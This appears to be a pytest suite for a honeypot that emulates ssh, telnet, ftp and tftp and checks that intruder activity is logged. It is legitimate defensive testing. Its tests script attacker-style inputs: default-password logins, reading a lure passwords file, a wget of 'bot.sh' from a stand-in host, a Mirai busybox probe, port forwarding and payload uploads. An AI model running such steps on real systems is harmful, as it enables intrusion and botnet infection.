"""ssh, telnet, ftp and tftp as an intruder's real clients see them, and what gets reported."""

from __future__ import annotations

import ftplib
import hashlib
import io
import os
import shutil
import socket
import subprocess
from pathlib import Path

import pexpect
import pytest
from tests import emulator_harness as h
from tests.probes import shell as p
from tests.support import require


@pytest.fixture(autouse=True)
def _clients() -> None:
    for tool in ("ssh", "sshpass", "ssh-keygen", "telnet", "tftp", "sftp", "scp"):
        require(shutil.which(tool) is not None, f"{tool} not installed (hack/clients.apt)")


@pytest.fixture()
def lures(tmp_path: Path) -> Path:
    """A root where the node agent would have placed a decky's lure files."""
    tmp_path = tmp_path / "root"
    (tmp_path / "home" / "admin").mkdir(parents=True)
    (tmp_path / "home" / "admin" / "passwords.txt").write_text("vpn admin / Winter2024!\n")
    (tmp_path / "srv" / "ftp").mkdir(parents=True)
    (tmp_path / "srv" / "ftp" / "backup.sql").write_text("-- MySQL dump 10.13\n")
    (tmp_path / "srv" / "tftp").mkdir(parents=True)
    (tmp_path / "srv" / "tftp" / "switch.cfg").write_text("hostname core-sw1\n")
    return tmp_path


def _first_line(port: int) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        return s.recv(256)


# ---------------------------------------------------------------- ssh

def test_ssh_version_hostname_and_lures_follow_config(lures: Path) -> None:
    config = {"version": "SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u3", "hostname": "files-02",
              "users": {"admin": "Summer2025"}, "filesRoot": str(lures)}
    with h.run("ssh", config) as emu:
        assert _first_line(emu.port(22)) == b"SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u3\r\n"
        done = p.ssh_run("127.0.0.1", emu.port(22), "admin", "Summer2025",
                         "hostname; cat /home/admin/passwords.txt; whoami")
        assert done.stdout == "files-02\nvpn admin / Winter2024!\nadmin\n"
        emu.wait_event("auth", username="admin", password="Summer2025", success="true",
                       mechanism="password")
        emu.wait_event("command", command="hostname; cat /home/admin/passwords.txt; whoami",
                       mode="exec")
        refused = p.ssh_run("127.0.0.1", emu.port(22), "root", "123456", "id")
        assert refused.returncode == 5 and "Permission denied" in refused.stderr  # sshpass: refused
        emu.wait_event("auth", username="root", password="123456", success="false")


def test_ssh_keyboard_interactive_and_public_keys_are_captured(tmp_path: Path) -> None:
    key = tmp_path / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    fingerprint = subprocess.run(["ssh-keygen", "-lf", str(key)], capture_output=True,
                                 text=True, check=True).stdout.split()[1]
    with h.run("ssh") as emu:
        port = str(emu.port(22))
        subprocess.run(["ssh", *p.SSH_OPTIONS[:4], "-o", "BatchMode=yes", "-o",
                        "PreferredAuthentications=publickey", "-i", str(key), "-p", port,
                        "deploy@127.0.0.1", "id"], capture_output=True, timeout=60)
        offered = emu.wait_event("auth", username="deploy", mechanism="publickey")
        assert offered.get("key_type") == "ssh-ed25519"
        assert offered.get("fingerprint") == fingerprint
        assert offered.get("success") == "false"
        done = subprocess.run(["sshpass", "-p", "123456", "ssh", *p.SSH_OPTIONS[:4], "-o",
                               "PreferredAuthentications=keyboard-interactive", "-p", port,
                               "root@127.0.0.1", "whoami"], capture_output=True, text=True,
                              timeout=60)
        assert done.stdout == "root\n", done.stderr
        emu.wait_event("auth", username="root", password="123456",
                       mechanism="keyboard-interactive", success="true")
        client = emu.wait_event("auth", username="root", success="true").get("client")
        assert client.startswith("SSH-2.0-OpenSSH_")


def test_ssh_interactive_shell_with_sudo_and_download(tmp_path: Path) -> None:
    with h.run("ssh", {"hostname": "web-01"}) as emu:
        child = pexpect.spawn("sshpass", ["-p", "admin", "ssh", *p.SSH_OPTIONS, "-tt", "-p",
                                          str(emu.port(22)), "admin@127.0.0.1"],
                              timeout=30, encoding="utf-8")
        try:
            child.expect("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY")
            child.expect_exact("admin@web-01:~$ ")
            child.sendline("sudo -i")
            child.expect_exact("[sudo] password for admin: ")
            child.sendline("hunter2")
            child.expect_exact("Sorry, try again.")
            child.sendline("x")
            child.sendline("y")
            child.expect_exact("sudo: 3 incorrect password attempts")
            child.expect_exact("admin@web-01:~$ ")
            child.sendline("wget http://198.51.100.7/bot.sh")
            child.expect("failed: Connection timed out")
            child.sendline("exit")
            child.expect(pexpect.EOF)
        finally:
            child.close(force=True)
        emu.wait_event("auth", mechanism="sudo", username="admin", password="hunter2")
        emu.wait_event("command", command="sudo -i", mode="shell")
        emu.wait_event("request", url="http://198.51.100.7/bot.sh", method="GET")
        # a password typed at sudo's prompt is not a command
        assert not emu.find("command", command="hunter2")


def test_ssh_forwarding_sftp_and_scp_are_refused_and_reported(tmp_path: Path) -> None:
    upload = tmp_path / "payload.bin"
    upload.write_bytes(os.urandom(4096))
    with h.run("ssh") as emu:
        port = str(emu.port(22))
        base = ["sshpass", "-p", "123456"]
        forward = subprocess.run([*base, "ssh", *p.SSH_OPTIONS, "-p", port, "-W",
                                  "10.1.2.3:3389", "root@127.0.0.1"], capture_output=True,
                                 text=True, timeout=60, stdin=subprocess.DEVNULL)
        assert forward.returncode != 0
        emu.wait_event("request", method="direct-tcpip", dest_host="10.1.2.3", dest_port="3389")
        sftp = subprocess.run([*base, "sftp", *p.SSH_OPTIONS, "-P", port, "root@127.0.0.1"],
                              input="ls\n", capture_output=True, text=True, timeout=60)
        assert sftp.returncode != 0 and "subsystem request failed" in sftp.stderr
        other = subprocess.run([*base, "ssh", *p.SSH_OPTIONS, "-p", port, "-s",
                                "root@127.0.0.1", "netconf"], capture_output=True, text=True,
                               timeout=60, stdin=subprocess.DEVNULL)
        assert other.returncode != 0
        emu.wait_event("request", method="subsystem", path="netconf")
        scp = subprocess.run([*base, "scp", "-O", *p.SSH_OPTIONS, "-P", port, str(upload),
                              "root@127.0.0.1:/tmp/"], capture_output=True, text=True,
                             timeout=60)
        assert scp.returncode != 0 and "Permission denied" in scp.stderr
        emu.wait_event("command", command="scp -t /tmp/", mode="exec")
        assert emu.alive()


def test_ssh_pre_auth_banner_from_config() -> None:
    banner = "Authorized access only. Activity is monitored."
    with h.run("ssh", {"banner": banner}) as emu:
        options = [o for o in p.SSH_OPTIONS if o != "LogLevel=ERROR"][:-1]  # banners show at INFO
        done = subprocess.run(["sshpass", "-p", "123456", "ssh", *options, "-p",
                               str(emu.port(22)), "root@127.0.0.1", "true"],
                              capture_output=True, text=True, timeout=60)
        assert done.returncode == 0 and banner in done.stderr, done.stderr


def test_ssh_accept_after_failures_from_the_same_address() -> None:
    with h.run("ssh", {"users": {"root": "toor"}, "acceptAfter": 2}) as emu:
        port = emu.port(22)
        outcomes = [p.ssh_run("127.0.0.1", port, "root", "toor", "true").returncode
                    for _ in range(3)]
        assert outcomes == [5, 5, 0]  # sshpass exits 5 on a refused password


# ---------------------------------------------------------------- telnet

def test_telnet_login_shell_and_failed_attempts(lures: Path) -> None:
    config = {"hostname": "nas-01", "issue": "Debian GNU/Linux 11", "filesRoot": str(lures)}
    with h.run("telnet", config) as emu:
        child = pexpect.spawn("telnet", ["127.0.0.1", str(emu.port(23))], timeout=30,
                              encoding="utf-8")
        try:
            child.expect_exact("Debian GNU/Linux 11")
            child.expect_exact("nas-01 login: ")
            child.sendline("admin")
            child.expect_exact("Password: ")
            child.sendline("wrong")
            child.expect_exact("Login incorrect")
            child.expect_exact("nas-01 login: ")
            child.sendline("admin")
            child.expect_exact("Password: ")
            child.sendline("admin")
            child.expect_exact("admin@nas-01:~$ ")
            child.sendline("cat passwords.txt")
            child.expect_exact("vpn admin / Winter2024!")
            child.sendline("exit")
            child.expect(pexpect.EOF)
        finally:
            child.close(force=True)
        emu.wait_event("auth", username="admin", password="wrong", success="false")
        emu.wait_event("auth", username="admin", password="admin", success="true")
        emu.wait_event("command", command="cat passwords.txt", username="admin")


def test_telnet_busybox_style_for_devices() -> None:
    with h.run("telnet", {"style": "busybox", "hostname": "ipcam"}) as emu:
        assert _first_line(emu.port(23)).startswith(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfd!")
        child = p.telnet_login("127.0.0.1", emu.port(23), "root", "123456")
        try:
            child.sendline("/bin/busybox MIRAI")
            child.expect_exact("MIRAI: applet not found")
        finally:
            child.close(force=True)
        emu.wait_event("command", command="/bin/busybox MIRAI")


# ---------------------------------------------------------------- ftp

def test_ftp_anonymous_listing_download_and_upload(lures: Path) -> None:
    payload = os.urandom(70000)
    with h.run("ftp", {"anonymous": True, "banner": "(vsFTPd 3.0.5)",
                       "filesRoot": str(lures)}) as emu:
        client = ftplib.FTP()
        assert client.connect("127.0.0.1", emu.port(21), timeout=20) == "220 (vsFTPd 3.0.5)"
        client.login()  # anonymous
        assert client.pwd() == "/"
        assert client.nlst() == ["backup.sql"]
        got = io.BytesIO()
        client.retrbinary("RETR backup.sql", got.write)
        assert got.getvalue() == b"-- MySQL dump 10.13\n"
        with pytest.raises(ftplib.error_perm, match="550"):
            client.retrbinary("RETR ../home/admin/passwords.txt", io.BytesIO().write)
        client.storbinary("STOR drop.bin", io.BytesIO(payload))
        with pytest.raises(ftplib.error_perm, match="500 Illegal PORT"):
            client.sendcmd("PORT 10,0,0,1,4,1")
        client.quit()
        emu.wait_event("auth", username="anonymous", success="true", mechanism="anonymous")
        upload = emu.wait_event("data", method="STOR", path="/drop.bin")
        assert upload.get("size") == str(len(payload))
        assert upload.get("sha256") == hashlib.sha256(payload).hexdigest()
        emu.wait_event("request", method="PORT")
    assert not list(lures.rglob("drop.bin"))


def test_ftp_anonymous_off_and_user_login(lures: Path) -> None:
    with h.run("ftp", {"filesRoot": str(lures)}) as emu:
        client = ftplib.FTP()
        client.connect("127.0.0.1", emu.port(21), timeout=20)
        with pytest.raises(ftplib.error_perm, match="530 Login incorrect"):
            client.login()
        client.close()
        client = ftplib.FTP()
        client.connect("127.0.0.1", emu.port(21), timeout=20)
        client.login("admin", "admin")
        assert client.sendcmd("SYST") == "215 UNIX Type: L8"
        lines: list[str] = []
        client.retrlines("LIST", lines.append)
        assert any(line.endswith(" passwords.txt") and " 1000 " in line for line in lines)
        client.quit()
        emu.wait_event("auth", username="anonymous", success="false")
        emu.wait_event("auth", username="admin", password="admin", success="true")


# ---------------------------------------------------------------- tftp

def test_tftp_serves_lures_and_drops_uploads(lures: Path, tmp_path: Path) -> None:
    upload = tmp_path / "x86"
    upload.write_bytes(os.urandom(3000))
    with h.run("tftp", {"filesRoot": str(lures)}) as emu:
        port = str(emu.port(69))
        got = tmp_path / "switch.cfg"
        subprocess.run(["tftp", "-m", "binary", "127.0.0.1", port, "-c", "get", "switch.cfg",
                        str(got)], check=True, timeout=60, cwd=tmp_path)
        assert got.read_text() == "hostname core-sw1\n"
        missing = subprocess.run(["tftp", "127.0.0.1", port, "-c", "get", "nope",
                                  str(tmp_path / "nope")], capture_output=True, text=True,
                                 timeout=60, cwd=tmp_path)
        assert "File not found" in missing.stdout + missing.stderr
        subprocess.run(["tftp", "-m", "binary", "127.0.0.1", port, "-c", "put", str(upload),
                        "x86"], check=True, timeout=60, cwd=tmp_path)
        dropped = emu.wait_event("data", method="WRQ", path="x86")
        assert dropped.get("sha256") == hashlib.sha256(upload.read_bytes()).hexdigest()
        emu.wait_event("request", method="RRQ", path="switch.cfg", mode="octet")
    assert not list(lures.rglob("x86"))
